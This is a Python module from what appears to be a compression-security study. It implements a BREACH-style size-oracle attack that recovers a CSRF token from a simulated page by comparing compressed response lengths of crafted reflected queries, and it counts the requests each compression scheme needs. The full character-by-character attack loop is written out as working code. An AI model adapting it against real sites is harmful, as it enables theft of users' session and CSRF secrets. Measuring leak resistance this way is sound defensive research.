"""A BREACH-style size oracle across streams: how many requests recover a secret.

The victim's page A (an HTML document of the site) carries a secret in its logout link,
``/account/logout?csrf_token=<secret>``, as BREACH's targets did.  The attacker, from a
page on another site, makes the victim's browser request a search page B that reflects
the query (HTML-escaped, as a careful server does) near its top.  A and B travel on the
same connection (or B finds A in the client's dictionary store); the attacker sees only
the length of B's encoded body on the wire, never a byte of A or B.

The attack is the one of the BREACH paper (Gluck, Harris, Prado, 2013), character by
character with the "two tries" comparison: for each candidate ``c`` the attacker asks
for ``known_prefix + found + c + P1 + P2`` and ``known_prefix + found + P1 + c + P2``; when ``c``
continues the secret, the first copy extends a match against A by one character and
compresses shorter than the second, otherwise both cost the same (same literals, in
another order).  The two pads ``P1``, ``P2`` are characters the pages never contain, a
fresh pair each round, so that no candidate gains from what happens to follow it.
Huffman coding makes a one-character gain invisible at some byte alignments, so each
round also shifts the reflection by a random number of filler characters.  The scores
(second length minus first) are summed over the rounds (at most ``max_alignments``); the
attacker accepts a candidate once, after at least two rounds, it scores ``min_score``
bytes or more and leads the runner-up by ``min_margin``; otherwise it gives up on the
position (the attack has then failed).  A wrong character
accepted on noise also ends in failure: success means the whole secret recovered.

Every size comes from the real library through ``SchemeRun`` (the same code as the
ratio study): each query is one fresh connection carrying exactly A then B (or a
client whose store holds exactly A), which is the attacker's best case: the requests
counted are a lower bound, since a real attack must also fight the history of its own
earlier guesses.  Deterministic: the secret, the pages, the pads and the filler come from the seed.
"""

from __future__ import annotations

import html
import random
from dataclasses import dataclass, field

from .corpus import Body, BodyParams
from .site import Site
from .codecs import Codec
from .schemes import Request, SchemeRun

__all__ = ["LeakSetup", "Attack", "AttackResult", "make_setup", "ALPHABET", "KNOWN_PREFIX"]

ALPHABET = "0123456789abcdef"  # the token's characters (hex, as generated)
KNOWN_PREFIX = "logout?csrf_token="  # what the attacker knows precedes the secret
# Two-character pads from characters that neither the token nor the pages contain and
# that HTML escaping leaves alone; a fresh pair each round.
PADS = ("{}", "~^", "|`", "[]", "@!", "*$")
FILLER = "-"
_MARK = "\u2603"  # placeholder for the reflection in B's template
_MARK_ESCAPED = html.escape(_MARK)


@dataclass
class LeakSetup:
    """The victim page A (with its secret) and the template of the reflecting page B."""

    secret: str
    page_a: Body
    template_b: str  # B's bytes (decoded) with _MARK where the query goes
    origin: str
    secret_seed: int = 0
    attacker_origin: str = "https://attacker.example"

    def page_b(self, query: str) -> Body:
        """Page B with ``query`` reflected (HTML-escaped) where the template marks it."""
        data = self.template_b.replace(_MARK_ESCAPED, html.escape(query)).encode()
        return Body("/search", f"{self.origin}/search?q=", "html", 0, data)


def make_setup(secret_chars: int, seed: int, *, page_bytes: int = 6000) -> LeakSetup:
    """A and B from one generated site; the secret is ``secret_chars`` hex characters."""
    rng = random.Random(seed)
    site = Site(rng, BodyParams(html_pages=0, css_files=1, js_files=1, json_files=0, releases=1))
    secret = "".join(rng.choice(ALPHABET) for _ in range(secret_chars))
    data, spans = site.html_page("/account", page_bytes, csrf=secret)
    a = Body("/account", site.origin + "/account", "html", 0, data, spans)
    b_bytes, _ = site.html_page("/search", page_bytes // 2, reflected=_MARK)
    return LeakSetup(secret=secret, page_a=a, template_b=b_bytes.decode(), origin=site.origin, secret_seed=seed)


@dataclass
class AttackResult:
    """What the attack recovered, whether it is the whole secret, and the oracle requests it took."""

    recovered: str
    success: bool
    queries: int  # oracle requests (B responses observed)
    positions_found: int
    sizes_seen: list = field(default_factory=list, repr=False)


class Attack:
    """Run the attack against one (scheme, codec, scoping)."""

    def __init__(
        self,
        setup: LeakSetup,
        scheme: str,
        codec: Codec | None,
        scoping: str,
        *,
        static: dict | None = None,
        max_alignments: int = 12,
        max_queries: int = 100_000,
        min_score: int = 3,
        min_margin: int = 3,
    ) -> None:
        self.setup, self.scheme, self.codec, self.scoping = setup, scheme, codec, scoping
        self.static = static or {}
        self.max_alignments = max_alignments
        self.max_queries = max_queries
        self.min_score, self.min_margin = min_score, min_margin
        self.queries = 0
        self._after_a: SchemeRun | None = None  # the state after page A, forked per query

    def oracle(self, query: str) -> int:
        """The length of B's encoded body when B reflects ``query``: all the attacker sees."""
        self.queries += 1
        s = self.setup
        if self._after_a is None:
            self._after_a = SchemeRun(self.scheme, self.codec, self.scoping, static=self.static)
            self._after_a.send(Request(s.page_a, initiator=s.origin, fetch_site="none", fetch_mode="navigate"))
        run = self._after_a.fork()
        if run is None:  # a streaming context that cannot be copied: send A again
            run = SchemeRun(self.scheme, self.codec, self.scoping, static=self.static)
            run.send(Request(s.page_a, initiator=s.origin, fetch_site="none", fetch_mode="navigate"))
        rec = run.send(
            Request(s.page_b(query), initiator=s.attacker_origin, fetch_site="cross-site", fetch_mode="no-cors")
        )
        return rec["wire_bytes"]

    def run(self) -> AttackResult:
        """Recover the secret one character at a time from response sizes (hit vs miss probes) until it stalls."""
        found = ""
        n = len(self.setup.secret)  # the attacker knows the token's length
        rng = random.Random(f"pads:{self.setup.secret_seed}")
        while len(found) < n and self.queries < self.max_queries:
            scores = dict.fromkeys(ALPHABET, 0)
            best = None
            for round_ in range(self.max_alignments):
                filler = FILLER * rng.randrange(8)
                p1, p2 = rng.sample(PADS, 2)
                for c in ALPHABET:
                    hit = self.oracle(filler + KNOWN_PREFIX + found + c + p1 + p2)
                    miss = self.oracle(filler + KNOWN_PREFIX + found + p1 + c + p2)
                    scores[c] += miss - hit
                ranked = sorted(scores.values(), reverse=True)
                top, runner_up = ranked[0], ranked[1]
                if round_ >= 1 and top >= self.min_score and top - runner_up >= self.min_margin:
                    best = max(ALPHABET, key=lambda c: scores[c])
                    break
            if best is None:
                break  # no candidate stands out: the oracle says nothing
            found += best
        return AttackResult(
            recovered=found, success=found == self.setup.secret, queries=self.queries, positions_found=len(found)
        )
